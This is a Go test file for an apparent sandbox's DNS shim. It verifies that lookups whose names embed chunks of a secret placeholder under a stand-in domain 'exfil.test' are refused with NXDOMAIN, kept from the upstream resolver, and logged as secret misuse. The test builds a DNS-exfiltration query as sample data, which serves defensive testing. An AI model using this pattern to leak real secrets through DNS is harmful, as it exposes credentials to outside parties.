package dns

import (
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/ebpfjail/ebpfjail/internal/secrets"
	"github.com/ebpfjail/ebpfjail/pkg/event"
)

// TestNameCarryingASecretPlaceholderIsRefusedWithAnEvent: the placeholder
// (or a run of it, case folded, split by dots) in a name gets NXDOMAIN in
// both modes, is never forwarded, and is recorded as secret_misuse.
func TestNameCarryingASecretPlaceholderIsRefusedWithAnEvent(t *testing.T) {
	set, err := secrets.New([]secrets.Spec{{Name: "API_KEY", Hosts: []string{"api.test"}, Value: []byte("sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789")}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(set.Close)
	ph := strings.TrimPrefix(set.Env()[0], "API_KEY=")
	core := strings.ToUpper(ph[len("sk-ant-api03-"):])
	leak := core[:12] + "." + core[12:30] + ".exfil.test."
	for _, mode := range []string{"forward", "fake"} {
		up := startUpstream(t)
		var mu sync.Mutex
		var events []event.Event
		cfg := Config{Upstream: up.addr, Rules: hostRule(strings.TrimSuffix(strings.ToLower(leak), ".")), Secrets: set,
			Events: func(e event.Event) { mu.Lock(); events = append(events, e); mu.Unlock() }}
		if mode == "fake" {
			cfg.Fake, cfg.Rules = NewSynthetic(), nil
		}
		s, _ := newModeShim(t, cfg)
		a4, _ := shimAddrs(s)
		c := &dns.Client{Net: "udp", Timeout: 5 * time.Second}
		resp, _, err := c.Exchange(newQuery(leak, dns.TypeA), a4)
		if err != nil || resp.Rcode != dns.RcodeNameError || len(resp.Answer) != 0 {
			t.Fatalf("%s: got %v, %v; want NXDOMAIN (the rule allows the name)", mode, resp, err)
		}
		if q := up.queries(); len(q) != 0 {
			t.Errorf("%s: upstream saw %v, want nothing", mode, q)
		}
		mu.Lock()
		var misuse *event.Event
		for i := range events {
			if events[i].Type == event.TypeSecretMisuse {
				misuse = &events[i]
			}
		}
		mu.Unlock()
		if misuse == nil || misuse.Secret != "API_KEY" || misuse.Where != "dns" || misuse.Verdict != event.Deny || misuse.Name != strings.TrimSuffix(strings.ToLower(leak), ".") {
			t.Errorf("%s: events %+v; want a secret_misuse of API_KEY in dns with the name", mode, events)
		}
	}
}
